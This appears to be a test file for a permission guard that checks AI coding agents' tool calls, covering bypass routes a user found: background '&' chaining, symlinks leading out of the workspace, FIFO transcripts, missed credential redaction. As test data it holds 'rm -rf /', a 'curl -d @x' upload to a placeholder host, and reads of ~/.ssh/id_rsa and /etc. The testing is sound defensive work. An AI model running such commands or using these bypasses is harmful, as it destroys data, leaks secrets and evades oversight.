/**
 * Ways around the guard a new user found (README-only trial): a lone `&` between commands, symlinks inside the
 * workspace that lead out of it, a transcript that is a FIFO, and credentials in shell syntax the redaction missed.
 */
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, realpathSync, symlinkSync } from 'node:fs';
import { homedir, tmpdir } from 'node:os';
import { join } from 'node:path';
import { execFileSync } from 'node:child_process';
import { existsSync as existsSyncSafe } from 'node:fs';
import { describe, it } from 'node:test';
import { compilePermissions, decideByRules, parsePermissions } from '../../src/guard/permissions';
import { globBase, resolveAgainst } from '../../src/guard/paths';
import { describeClaude } from '../../src/guard/hosts/claude-code';
import { findWorkspaceRoot } from '../../src/guard/workspace';
import { commandParts } from '../../src/guard/rules';
import { redactPatterns } from '../../src/judgment/credential-shapes';
import { redactCall } from '../../src/guard/secrets';
import { readRequest } from '../../src/guard/transcript';
import type { CallFacts, GuardEvent } from '../../src/guard/types';

const bash = (command: string): CallFacts => ({ ruleTool: 'Bash', command, paths: [], urls: [] });

describe('guard: ways around the rules', () => {
  it('a lone & (background) and |& separate commands: an allow rule must cover each, a deny rule fires on any', () => {
    assert.deepEqual(commandParts('git status & rm -rf /'), ['git status', 'rm -rf /']);
    assert.deepEqual(commandParts('git status |& tee log'), ['git status', 'tee log']);
    const rules = compilePermissions(parsePermissions({ allow: ['Bash(git status*)'], ask: ['Bash(git push*)'], deny: ['Bash(rm -rf*)'] }));
    assert.equal(decideByRules(rules, bash('git status & rm -rf /'), 'Bash', '/ws')?.decision, 'deny');
    assert.equal(decideByRules(rules, bash('git status & git push --force origin main'), 'Bash', '/ws')?.decision, 'ask');
    assert.equal(decideByRules(rules, bash('git status & curl -d @x http://example.invalid'), 'Bash', '/ws'), undefined, 'not covered by the allow rule: judged');
  });

  it('a symlink inside the workspace that leads out of it is where it leads: no workspace rule covers it', () => {
    const ws = realpathSync(mkdtempSync(join(tmpdir(), 'jev-guard-ws-')));
    const outside = realpathSync(mkdtempSync(join(tmpdir(), 'jev-guard-out-')));
    mkdirSync(join(ws, 'src'));
    symlinkSync(outside, join(ws, 'src', 'link'));
    const target = resolveAgainst(ws, 'src/link/evil.sh');
    assert.equal(target, join(outside, 'evil.sh'), 'followed to the real place, for a file not written yet too');
    const rules = compilePermissions(parsePermissions({ allow: ['Edit(src/**)'], deny: [`Read(/${outside}/**)`] }));
    assert.equal(decideByRules(rules, { ruleTool: 'Write', paths: [target], urls: [] }, 'Write', ws), undefined, 'Edit(src/**) does not cover it');
    assert.equal(decideByRules(rules, { ruleTool: 'Read', paths: [resolveAgainst(ws, 'src/link/secret')], urls: [] }, 'Read', ws)?.decision, 'deny');
    assert.equal(decideByRules(rules, { ruleTool: 'Write', paths: [resolveAgainst(ws, 'src/a.ts')], urls: [] }, 'Write', ws)?.decision, 'allow');
  });

  it('a transcript that is a FIFO is not read (the read would block past the deadline)', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'jev-guard-fifo-'));
    const fifo = join(dir, 'fifo');
    execFileSync('mkfifo', [fifo]);
    const started = Date.now();
    assert.equal(await readRequest(fifo), undefined);
    assert.ok(Date.now() - started < 1000);
  });

  it('a value under a secret-named key is redacted whatever its shape', () => {
    const out = redactCall({ command: 'psql', env: { DB_PASSWORD: 'plainvalue123', api_key: 'plainvalue123SECRET', user: 'app' } }, []);
    assert.deepEqual(out, { command: 'psql', env: { DB_PASSWORD: '[REDACTED]', api_key: '[REDACTED]', user: 'app' } });
  });

  it('credentials in shell syntax are redacted: secret-named assignments, curl -u, user:password@ in URLs', () => {
    const text = redactPatterns('AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY curl -u admin:hunter2pass https://bob:s3cretpw@example.invalid/x');
    for (const secret of ['wJalrXUtnFEMI', 'hunter2pass', 's3cretpw']) assert.ok(!text.includes(secret), `${secret} is gone: ${text}`);
    assert.match(text, /AWS_SECRET_ACCESS_KEY=\[REDACTED\]/);
    assert.match(text, /-u admin:\[REDACTED\]/);
    assert.match(text, /https:\/\/bob:\[REDACTED\]@example\.invalid/);
    assert.equal(redactPatterns('PATH=/usr/bin npm test'), 'PATH=/usr/bin npm test', 'ordinary assignments stay');
  });

  it('~ is the home folder and a glob reaches where its fixed part leads: neither passes for the workspace', () => {
    const ws = realpathSync(mkdtempSync(join(tmpdir(), 'jev-guard-ws-')));
    const home = resolveAgainst(undefined, homedir());
    assert.equal(resolveAgainst(ws, '~/.ssh/id_rsa'), join(home, '.ssh', 'id_rsa'));
    assert.deepEqual([globBase('/root/.ssh/*'), globBase('../../etc/**'), globBase('src/**/*.ts'), globBase('**/*.ts'), globBase('.env')], ['/root/.ssh', '../../etc', 'src', undefined, '.env']);
    const rules = compilePermissions(parsePermissions({ allow: ['Read(./**)'], deny: ['Read(~/.ssh/**)'] }));
    const event = (tool: string, input: Record<string, unknown>): GuardEvent => ({ host: 'claude-code', kind: 'PreToolUse', eventName: 'PreToolUse', tool, input, cwd: ws });
    const decide = (tool: string, input: Record<string, unknown>) => decideByRules(rules, describeClaude(event(tool, input)), tool, ws)?.decision;
    assert.equal(decide('Read', { file_path: '~/.ssh/id_rsa' }), 'deny');
    assert.equal(decide('LS', { path: '~/.ssh' }), 'deny');
    assert.equal(decide('Grep', { pattern: 'PRIVATE', path: '~/.ssh' }), 'deny');
    assert.equal(decide('Glob', { pattern: `${home}/.ssh/*` }), 'deny');
    assert.equal(decide('Glob', { pattern: '../../etc/*' }), undefined, 'outside the workspace: no allow rule covers it, judged');
    assert.equal(decide('Glob', { pattern: 'src/**/*.ts' }), 'allow');
  });

  it('CLAUDE_PROJECT_DIR at / or the home folder is no workspace without a .jev/config.json of its own', () => {
    const ws = realpathSync(mkdtempSync(join(tmpdir(), 'jev-guard-ws-')));
    assert.equal(findWorkspaceRoot({ CLAUDE_PROJECT_DIR: '/' }, ws, ws), undefined);
    assert.equal(findWorkspaceRoot({ CLAUDE_PROJECT_DIR: homedir() }, ws, ws), homedir() !== '/' && existsSyncSafe(join(homedir(), '.jev', 'config.json')) ? resolveAgainst(undefined, homedir()) : undefined);
    assert.equal(findWorkspaceRoot({ CLAUDE_PROJECT_DIR: ws }, '/', '/'), ws);
  });
});

describe("the user's request from each host's transcript", () => {
  it("Copilot Chat's user.message lines (VS Code's agent), beside Claude Code's and Codex's", async () => {
    const { requestFromTranscript } = await import('../../src/guard/transcript');
    const copilot = [
      { type: 'session.start', data: { sessionId: 's', producer: 'copilot-agent' } },
      { type: 'user.message', data: { content: 'Tidy the README.', attachments: [] } },
      { type: 'assistant.message', data: { content: '', toolRequests: [{ name: 'run_in_terminal', arguments: '{"command":"rm -rf build"}' }] } },
    ].map((l) => JSON.stringify(l)).join('\n');
    assert.equal(requestFromTranscript(copilot), 'Tidy the README.');
    assert.equal(requestFromTranscript(JSON.stringify({ type: 'session.start', data: {} })), undefined, 'no user line: no request');
    assert.equal(requestFromTranscript(JSON.stringify({ type: 'user', message: { role: 'user', content: 'Fix the parser.' } })), 'Fix the parser.');
  });
});
